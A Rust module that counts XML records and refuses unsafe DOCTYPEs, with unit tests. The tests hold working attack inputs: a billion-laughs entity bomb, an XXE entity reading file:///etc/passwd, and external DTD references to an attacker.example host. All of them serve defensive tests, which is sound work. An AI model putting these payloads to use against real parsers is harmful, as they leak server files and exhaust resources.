//! Counting XML records: elements (start or self-closing tags) whose local name
//! is the rule's `record_element`, at any depth, read with quick-xml.
//!
//! `record_element` is compared with each element's local name (`ns:order` counts
//! for `order`); a configured name with a prefix (`ns:order`) is compared with the
//! qualified name instead. A spec without one is [`CountError::Misconfigured`].
//!
//! What is rejected, with quick-xml's reason and the byte position:
//! - malformed XML: mismatched or unmatched end tags, unclosed markup, and
//!   elements still open at the end of the file (quick-xml reports that only
//!   from `read_to_end`, so it is checked here);
//! - elements nested deeper than `max_xml_depth`;
//! - a DOCTYPE that declares entities (`<!ENTITY`) or names an external DTD or
//!   resource (`SYSTEM`, `PUBLIC`), checked without regard to case and wherever
//!   it appears in the DOCTYPE: conservative, a rule never needs either.
//!
//! quick-xml never expands entities nor fetches anything (it has no DTD
//! processing: `&name;` comes out as an unexpanded reference event, which the
//! counter ignores), so billion-laughs and external-entity documents are harmless
//! to this code; they are rejected anyway, because the raw layer must not hand them
//! to a downstream parser that might expand them.
//!
//! Memory: quick-xml copies each event (a tag, a text node, a comment, the
//! DOCTYPE) whole into a buffer, so a 1 GiB text node would be held. The reader is
//! wrapped in [`TokenLimit`], which fails once an event would take more than
//! `max_record_bytes`; the names of open elements, which quick-xml keeps to check
//! end tags, are bounded to `max_record_bytes` in total as well.
//!
//! Input must be UTF-8 (quick-xml is built without its `encoding` feature); other
//! encodings are rejected as malformed.

use std::io::{self, BufRead, Read};

use quick_xml::Reader;
use quick_xml::events::{BytesStart, Event};

use super::{CountError, RowStats};
use crate::engine::spec::{Format, Limits, ParseSpec};

/// Counts the records of an XML file; see the module documentation.
pub(crate) fn count<R: BufRead>(
    reader: R,
    spec: &ParseSpec,
    limits: &Limits,
) -> Result<RowStats, CountError> {
    let record_element = match spec.record_element.as_deref().map(str::trim) {
        Some(name) if !name.is_empty() => name,
        _ => {
            return Err(CountError::Misconfigured {
                format: Format::Xml,
                reason: "the rule names no record element".to_owned(),
            });
        }
    };
    let mut counter = XmlCounter::new(record_element, limits);
    let mut xml = Reader::from_reader(TokenLimit::new(reader, limits.max_record_bytes));
    let mut buf = Vec::new();
    loop {
        let event = match xml.read_event_into(&mut buf) {
            Ok(event) => event,
            Err(e) => return Err(counter.read_error(&mut xml, e)),
        };
        let position = xml.buffer_position();
        if xml.get_ref().over_limit() {
            return Err(counter.token_too_long(position));
        }
        if !counter.event(&event, position)? {
            break;
        }
        buf.clear();
        xml.get_mut().reset();
    }
    Ok(RowStats {
        contract: None,
        records: counter.records,
        rows: counter.records,
        header: None,
    })
}

/// The XML counter's state between events.
#[derive(Debug)]
struct XmlCounter<'a> {
    record_element: &'a str,
    /// Whether `record_element` has a prefix, so qualified names are compared.
    qualified: bool,
    max_depth: u32,
    max_token_bytes: u64,
    records: u64,
    /// Open record elements (a record may contain records of the same name).
    open_records: u64,
    /// Names of the open elements, outermost first, concatenated…
    open_names: String,
    /// …and where each starts in `open_names`; its length is the depth.
    name_starts: Vec<usize>,
    /// Top-level elements seen (a document has exactly one).
    roots: u32,
    /// Whether a declaration, comment, PI or DOCTYPE was seen (a file with
    /// those but no root element was cut off).
    saw_markup: bool,
}

impl<'a> XmlCounter<'a> {
    fn new(record_element: &'a str, limits: &Limits) -> Self {
        XmlCounter {
            record_element,
            qualified: record_element.contains(':'),
            max_depth: limits.max_xml_depth,
            max_token_bytes: limits.max_record_bytes,
            records: 0,
            open_records: 0,
            open_names: String::new(),
            name_starts: Vec::new(),
            roots: 0,
            saw_markup: false,
        }
    }

    /// Checks what quick-xml leaves to the caller: one root element, well-formed
    /// attributes (parsed lazily by quick-xml, so never checked otherwise).
    fn check_element(&mut self, element: &BytesStart<'_>, position: u64) -> Result<(), CountError> {
        if self.name_starts.is_empty() {
            self.roots += 1;
            if self.roots > 1 {
                return Err(self.malformed(format!(
                    "a second root element <{}> (at byte {position}); a document has exactly one",
                    element.name().as_ref()
                )));
            }
        }
        for attribute in element.attributes() {
            if let Err(error) = attribute {
                return Err(self.malformed(format!(
                    "malformed attribute in <{}>: {error} (at byte {position})",
                    element.name().as_ref()
                )));
            }
        }
        Ok(())
    }

    /// Takes one event; `Ok(false)` at the end of the file.
    fn event(&mut self, event: &Event<'_>, position: u64) -> Result<bool, CountError> {
        match event {
            Event::Start(start) => {
                let depth = self.name_starts.len() as u64 + 1;
                self.check_depth(depth, position)?;
                self.check_element(start, position)?;
                let name = start.name();
                if self.open_names.len() as u64 + name.as_ref().len() as u64 > self.max_token_bytes
                {
                    return Err(self.malformed(format!(
                        "the names of the open elements are longer than {} bytes in all (at byte {position})",
                        self.max_token_bytes
                    )));
                }
                self.name_starts.push(self.open_names.len());
                self.open_names.push_str(name.as_ref());
                if self.is_record(name.as_ref(), start.local_name().as_ref()) {
                    self.records += 1;
                    self.open_records += 1;
                }
            }
            Event::Empty(empty) => {
                let depth = self.name_starts.len() as u64 + 1;
                self.check_depth(depth, position)?;
                self.check_element(empty, position)?;
                if self.is_record(empty.name().as_ref(), empty.local_name().as_ref()) {
                    self.records += 1;
                }
            }
            Event::End(_) => {
                // quick-xml checked that the end tag matches the innermost open one.
                if let Some(start) = self.name_starts.pop() {
                    let name = self.open_names.get(start..).unwrap_or_default();
                    let local = name.rsplit_once(':').map_or(name, |(_, local)| local);
                    if self.is_record(name, local) {
                        self.open_records = self.open_records.saturating_sub(1);
                    }
                    self.open_names.truncate(start);
                }
            }
            Event::DocType(doctype) => {
                self.saw_markup = true;
                if let Some(why) = unsafe_doctype(doctype.as_bytes()) {
                    return Err(self.malformed(format!(
                        "the DOCTYPE {why}; entities and external DTDs are not accepted (at byte {position})"
                    )));
                }
            }
            Event::Eof => {
                if let Some(start) = self.name_starts.last() {
                    let innermost = self.open_names.get(*start..).unwrap_or_default();
                    return Err(self.malformed(format!(
                        "the file ends inside element <{innermost}> ({} element(s) still open)",
                        self.name_starts.len()
                    )));
                }
                if self.roots == 0 && self.saw_markup {
                    // An empty (or blank) file is 0 records, as for csv and jsonl;
                    // a declaration or comment with no root is a cut-off document.
                    return Err(self.malformed("no root element (a cut-off document?)".to_owned()));
                }
                return Ok(false);
            }
            Event::Text(text) if self.name_starts.is_empty() => {
                if text.chars().any(|c| !c.is_whitespace() && c != '\u{feff}') {
                    return Err(self.malformed(format!(
                        "text outside the root element (at byte {position})"
                    )));
                }
            }
            Event::CData(_) | Event::GeneralRef(_) if self.name_starts.is_empty() => {
                return Err(self.malformed(format!(
                    "content outside the root element (at byte {position})"
                )));
            }
            Event::Comment(_) | Event::Decl(_) | Event::PI(_) => self.saw_markup = true,
            Event::Text(_) | Event::CData(_) | Event::GeneralRef(_) => {}
        }
        Ok(true)
    }

    fn is_record(&self, name: &str, local_name: &str) -> bool {
        if self.qualified {
            name == self.record_element
        } else {
            local_name == self.record_element
        }
    }

    fn check_depth(&self, depth: u64, position: u64) -> Result<(), CountError> {
        if depth > u64::from(self.max_depth) {
            return Err(self.malformed(format!(
                "elements are nested deeper than {} levels (at byte {position})",
                self.max_depth
            )));
        }
        Ok(())
    }

    /// The record an error belongs to: the one open, else the next one.
    fn malformed(&self, reason: String) -> CountError {
        let record = if self.open_records > 0 {
            self.records
        } else {
            self.records + 1
        };
        CountError::Malformed {
            format: Format::Xml,
            record,
            reason,
        }
    }

    fn token_too_long(&self, position: u64) -> CountError {
        self.malformed(format!(
            "an XML token longer than {} bytes (near byte {position})",
            self.max_token_bytes
        ))
    }

    /// Turns quick-xml's error into ours: the reader's own error comes back
    /// unchanged, the token limit and malformed XML become rejections.
    fn read_error<R: BufRead>(
        &self,
        xml: &mut Reader<TokenLimit<R>>,
        error: quick_xml::Error,
    ) -> CountError {
        if let Some(io_error) = xml.get_mut().take_failure() {
            return CountError::Io(io_error);
        }
        if xml.get_ref().over_limit() {
            return self.token_too_long(xml.buffer_position());
        }
        match error {
            // Only `TokenLimit` does I/O, and its failures were taken above.
            quick_xml::Error::Io(e) => CountError::Io(io::Error::new(e.kind(), e.to_string())),
            other => self.malformed(format!("{other} (at byte {})", xml.error_position())),
        }
    }
}

/// Why a DOCTYPE's content (after `<!DOCTYPE`) is refused, if it is.
fn unsafe_doctype(doctype: &[u8]) -> Option<&'static str> {
    if contains_ignore_case(doctype, b"<!ENTITY") {
        return Some("declares entities");
    }
    if contains_word_ignore_case(doctype, b"SYSTEM")
        || contains_word_ignore_case(doctype, b"PUBLIC")
    {
        return Some("references an external DTD or resource (SYSTEM/PUBLIC)");
    }
    None
}

fn contains_ignore_case(haystack: &[u8], needle: &[u8]) -> bool {
    haystack
        .windows(needle.len())
        .any(|w| w.eq_ignore_ascii_case(needle))
}

/// Whether `needle` occurs with no name character just before or after it.
fn contains_word_ignore_case(haystack: &[u8], needle: &[u8]) -> bool {
    let is_name_byte =
        |b: &u8| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.' | b':') || *b >= 0x80;
    haystack.windows(needle.len()).enumerate().any(|(at, w)| {
        w.eq_ignore_ascii_case(needle)
            && !at
                .checked_sub(1)
                .and_then(|i| haystack.get(i))
                .is_some_and(is_name_byte)
            && !haystack.get(at + needle.len()).is_some_and(is_name_byte)
    })
}

/// A `BufRead` that lets at most `max` bytes be consumed between two
/// [`TokenLimit::reset`] calls (one quick-xml event), so quick-xml never copies
/// more than `max + 1` bytes into its event buffer.
///
/// Its own failure, and the inner reader's, reach quick-xml as `io::Error`s that
/// it wraps in an `Arc`; the inner error is kept here instead, so that the caller
/// gets it back unchanged.
#[derive(Debug)]
pub(crate) struct TokenLimit<R> {
    inner: R,
    max: u64,
    consumed: u64,
    /// The inner reader's error, kept to be returned unchanged.
    failure: Option<io::Error>,
}

impl<R> TokenLimit<R> {
    pub(crate) fn new(inner: R, max: u64) -> Self {
        TokenLimit {
            inner,
            max,
            consumed: 0,
            failure: None,
        }
    }

    /// Starts counting the next event's bytes.
    pub(crate) fn reset(&mut self) {
        self.consumed = 0;
    }

    /// Whether the current event took more than `max` bytes.
    pub(crate) fn over_limit(&self) -> bool {
        self.consumed > self.max
    }

    /// The inner reader's error, if it failed.
    pub(crate) fn take_failure(&mut self) -> Option<io::Error> {
        self.failure.take()
    }
}

impl<R: BufRead> BufRead for TokenLimit<R> {
    fn fill_buf(&mut self) -> io::Result<&[u8]> {
        if self.over_limit() {
            return Err(io::Error::other("XML token too long"));
        }
        // One byte past the limit may be consumed, which tells a token of exactly
        // `max` bytes (the next byte starts another) from a longer one.
        let allowed =
            usize::try_from((self.max - self.consumed).saturating_add(1)).unwrap_or(usize::MAX);
        match self.inner.fill_buf() {
            Ok(available) => Ok(available.get(..allowed).unwrap_or(available)),
            Err(e) if e.kind() == io::ErrorKind::Interrupted => Err(e),
            Err(e) => {
                let placeholder = io::Error::new(e.kind(), "the underlying reader failed");
                self.failure = Some(e);
                Err(placeholder)
            }
        }
    }

    fn consume(&mut self, amount: usize) {
        self.inner.consume(amount);
        self.consumed = self.consumed.saturating_add(amount as u64);
    }
}

impl<R: BufRead> Read for TokenLimit<R> {
    fn read(&mut self, out: &mut [u8]) -> io::Result<usize> {
        let available = self.fill_buf()?;
        let n = available.len().min(out.len());
        if let (Some(dst), Some(src)) = (out.get_mut(..n), available.get(..n)) {
            dst.copy_from_slice(src);
        }
        self.consume(n);
        Ok(n)
    }
}

#[cfg(test)]
mod tests {
    use std::time::{Duration, Instant};

    use super::super::testing::{
        assert_interrupted_reads_are_retried, assert_reader_error_passes_through, count,
        count_chunked, count_endless, max_record, outcome,
    };
    use super::super::{CountError, count_rows};
    use crate::engine::spec::{Format, Limits, ParseSpec};

    fn xml(record: &str) -> ParseSpec {
        ParseSpec {
            record_element: Some(record.to_owned()),
            ..ParseSpec::new(Format::Xml)
        }
    }

    /// Counts `input`, checking every small chunking agrees.
    fn records(input: &str, record: &str) -> u64 {
        let spec = xml(record);
        let whole = count(input.as_bytes(), &spec).unwrap();
        assert_eq!((whole.rows, whole.header.as_ref()), (whole.records, None));
        for capacity in 1..16 {
            assert_eq!(
                count_chunked(input.as_bytes(), capacity, &spec, &Limits::default()),
                Ok(whole.clone())
            );
        }
        whole.records
    }

    fn rejection(input: &[u8], spec: &ParseSpec, limits: &Limits) -> (u64, String) {
        match count_rows(input, spec, limits) {
            Err(CountError::Malformed {
                format: Format::Xml,
                record,
                reason,
            }) => (record, reason),
            other => panic!("expected a rejection, got {other:?}"),
        }
    }

    #[test]
    fn documents_must_have_one_root_and_well_formed_attributes() {
        let spec = xml("order");
        let limits = Limits::default();
        for (doc, expected) in [
            (
                &b"<r><order id=\"1\" id=\"2\"/></r>"[..],
                "malformed attribute in <order>",
            ),
            (b"<r><order a=1/></r>", "malformed attribute in <order>"),
            (b"<order/><order/>", "a second root element <order>"),
            (b"<r/>junk", "text outside the root element"),
            (b"<?xml version=\"1.0\"?>\n", "no root element"),
            (b"<!-- only a comment -->", "no root element"),
        ] {
            let (_, reason) = rejection(doc, &spec, &limits);
            assert!(
                reason.starts_with(expected),
                "{}: {reason}",
                String::from_utf8_lossy(doc)
            );
        }
        // Whitespace and comments around the root are fine.
        assert_eq!(records("\n<!-- c -->\n<r><order/></r>\n\n", "order"), 1);
    }

    #[test]
    fn records_are_counted_at_any_depth_including_nested_ones() {
        let doc = r#"<?xml version="1.0"?>
            <feed><batch><order id="1"><line/></order><order id="2"/></batch>
            <order><order>nested</order></order><orders/><x-order/></feed>"#;
        assert_eq!(records(doc, "order"), 4);
        assert_eq!(records(doc, "line"), 1);
        assert_eq!(records(doc, "missing"), 0);
    }

    #[test]
    fn names_are_matched_by_local_name_unless_the_rule_gives_a_prefix() {
        let doc = r#"<ns:feed xmlns:ns="urn:x" xmlns:o="urn:y"><ns:order/><o:order></o:order><order/></ns:feed>"#;
        assert_eq!(records(doc, "order"), 3);
        assert_eq!(records(doc, "ns:order"), 1);
    }

    #[test]
    fn a_bom_comments_cdata_and_a_plain_doctype_are_fine() {
        let doc = "\u{feff}<?xml version=\"1.0\"?><!DOCTYPE feed [<!ELEMENT feed ANY>]>\
                   <!-- <order/> --><feed><![CDATA[<order/>]]>&amp;<order/></feed>\n";
        assert_eq!(records(doc, "order"), 1);
    }

    #[test]
    fn an_empty_document_has_no_records() {
        assert_eq!(records("", "order"), 0);
        assert_eq!(records("  \n", "order"), 0);
    }

    #[test]
    fn mismatched_unmatched_and_unclosed_tags_are_rejected() {
        let (record, reason) =
            rejection(b"<feed><order></feed>", &xml("order"), &Limits::default());
        assert_eq!(record, 1);
        assert!(
            reason.contains("expected `</order>`, but `</feed>` was found"),
            "{reason}"
        );
        assert!(reason.contains("at byte 13"), "{reason}");
        let (_, reason) = rejection(b"<feed></feed></order>", &xml("order"), &Limits::default());
        assert!(reason.contains("</order>"), "{reason}");
        let (record, reason) =
            rejection(b"<feed><order/><order>", &xml("order"), &Limits::default());
        assert_eq!(record, 2);
        assert_eq!(
            reason,
            "the file ends inside element <order> (2 element(s) still open)"
        );
        let (_, reason) = rejection(b"<feed><order", &xml("order"), &Limits::default());
        assert!(reason.contains("at byte 6"), "{reason}");
    }

    #[test]
    fn nesting_deeper_than_the_limit_is_rejected() {
        let limits = Limits {
            max_xml_depth: 3,
            ..Limits::default()
        };
        let ok = count_rows(&b"<a><b><c/></b></a>"[..], &xml("c"), &limits).unwrap();
        assert_eq!(ok.records, 1);
        for doc in [
            &b"<a><b><c><d/></c></b></a>"[..],
            b"<a><b><c><d></d></c></b></a>",
        ] {
            let (_, reason) = rejection(doc, &xml("c"), &limits);
            assert!(
                reason.starts_with("elements are nested deeper than 3 levels"),
                "{reason}"
            );
        }
        // A hostile depth is stopped at the limit, quickly.
        let deep = "<a>".repeat(1_000_000);
        let (_, reason) = rejection(deep.as_bytes(), &xml("a"), &Limits::default());
        assert!(reason.contains("deeper than 256"), "{reason}");
    }

    #[test]
    fn billion_laughs_is_rejected_quickly_without_expanding_anything() {
        let mut doc =
            String::from("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n<!ENTITY lol \"lol\">\n");
        for i in 1..=9 {
            let previous = if i == 1 {
                "lol".to_owned()
            } else {
                format!("lol{}", i - 1)
            };
            doc += &format!(
                "<!ENTITY lol{i} \"{}\">\n",
                format!("&{previous};").repeat(10)
            );
        }
        doc += "]>\n<lolz>&lol9;</lolz>\n";
        let started = Instant::now();
        let (_, reason) = rejection(doc.as_bytes(), &xml("lolz"), &Limits::default());
        assert!(started.elapsed() < Duration::from_secs(5));
        assert!(
            reason.starts_with("the DOCTYPE declares entities"),
            "{reason}"
        );
    }

    #[test]
    fn external_entities_and_external_dtds_are_rejected() {
        let docs: [&[u8]; 4] = [
            b"<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
            b"<!DOCTYPE foo SYSTEM \"http://attacker.example/evil.dtd\"><foo/>",
            b"<!DOCTYPE foo PUBLIC \"-//X//Y\" \"http://attacker.example/x.dtd\"><foo/>",
            b"<!doctype foo [<!entity % p SYSTEM \"http://attacker.example/p\"> %p;]><foo/>",
        ];
        for doc in docs {
            let (_, reason) = rejection(doc, &xml("foo"), &Limits::default());
            assert!(reason.starts_with("the DOCTYPE "), "{reason}");
            assert!(reason.contains("not accepted"), "{reason}");
        }
        // The words only count as keywords, not inside names.
        assert_eq!(records("<!DOCTYPE SYSTEMS><SYSTEMS/>", "SYSTEMS"), 1);
    }

    #[test]
    fn a_token_longer_than_the_limit_is_rejected_without_buffering_it() {
        let limits = max_record(1024 * 1024);
        for (prefix, byte) in [
            (&b"<feed><order/>"[..], b'x'),                 // a text node
            (b"<feed><order/><!-- ", b'-'),                 // a comment
            (b"<feed><order/><order a=\"", b'v'),           // an attribute
            (b"<!DOCTYPE feed [<!ELEMENT feed ANY>", b' '), // the DOCTYPE
        ] {
            let (result, read) = count_endless(prefix, byte, 1 << 40, &xml("order"), &limits);
            match result {
                Err(CountError::Malformed { reason, .. }) => {
                    assert!(
                        reason.starts_with("an XML token longer than 1048576 bytes"),
                        "{reason}"
                    )
                }
                other => panic!("expected a long token, got {other:?}"),
            }
            assert!(read <= 1024 * 1024 + 16 * 1024, "read {read} bytes");
        }
    }

    #[test]
    fn a_token_at_the_limit_is_accepted() {
        let limits = max_record(8);
        // `<a>` 3, `1234567` 7, `<order/>` 8, `</a>` 4 bytes.
        let ok = count_rows(&b"<a>12345678<order/></a>"[..], &xml("order"), &limits).unwrap();
        assert_eq!(ok.records, 1);
        let (_, reason) = rejection(b"<a>123456789<order/></a>", &xml("order"), &limits);
        assert!(
            reason.starts_with("an XML token longer than 8 bytes"),
            "{reason}"
        );
        let (_, reason) = rejection(b"<a><order />123</a>", &xml("order"), &limits);
        assert!(
            reason.starts_with("an XML token longer than 8 bytes"),
            "{reason}"
        );
    }

    #[test]
    fn open_element_names_are_bounded_in_total() {
        let limits = Limits {
            max_record_bytes: 16,
            ..Limits::default()
        };
        let (_, reason) = rejection(b"<abcdef><abcdef><abcdef>", &xml("x"), &limits);
        assert!(
            reason.starts_with("the names of the open elements are longer than 16 bytes"),
            "{reason}"
        );
    }

    #[test]
    fn invalid_utf8_is_rejected() {
        let (_, reason) = rejection(b"<feed>caf\xE9</feed>", &xml("feed"), &Limits::default());
        assert!(reason.contains("at byte"), "{reason}");
    }

    #[test]
    fn a_rule_without_record_element_is_misconfigured() {
        for record_element in [None, Some(String::new()), Some("  ".to_owned())] {
            let spec = ParseSpec {
                record_element,
                ..ParseSpec::new(Format::Xml)
            };
            let error = count(b"<a/>", &spec).unwrap_err();
            assert!(matches!(
                error,
                CountError::Misconfigured {
                    format: Format::Xml,
                    ..
                }
            ));
            assert_eq!(
                error.to_string(),
                "cannot count xml records: the rule names no record element"
            );
        }
    }

    #[test]
    fn the_readers_error_comes_back_unchanged_and_interruptions_are_retried() {
        assert_reader_error_passes_through(b"<feed><order/><order>", &xml("order"));
        assert_reader_error_passes_through(b"", &xml("order"));
        assert_interrupted_reads_are_retried(
            b"<feed><order/><order>1</order></feed>",
            &xml("order"),
        );
    }

    #[test]
    fn the_same_error_whatever_the_chunking() {
        let limits = max_record(12);
        for doc in [
            &b"<feed><order></feed>"[..],
            b"<feed><order/><order>",
            b"<a>0123456789abc</a>",
            b"<!DOCTYPE a [<!ENTITY x \"y\">]><a/>",
        ] {
            let whole = outcome(count_rows(doc, &xml("order"), &limits));
            assert!(whole.is_err());
            for capacity in 1..16 {
                assert_eq!(
                    count_chunked(doc, capacity, &xml("order"), &limits),
                    whole,
                    "{capacity}"
                );
            }
        }
    }
}
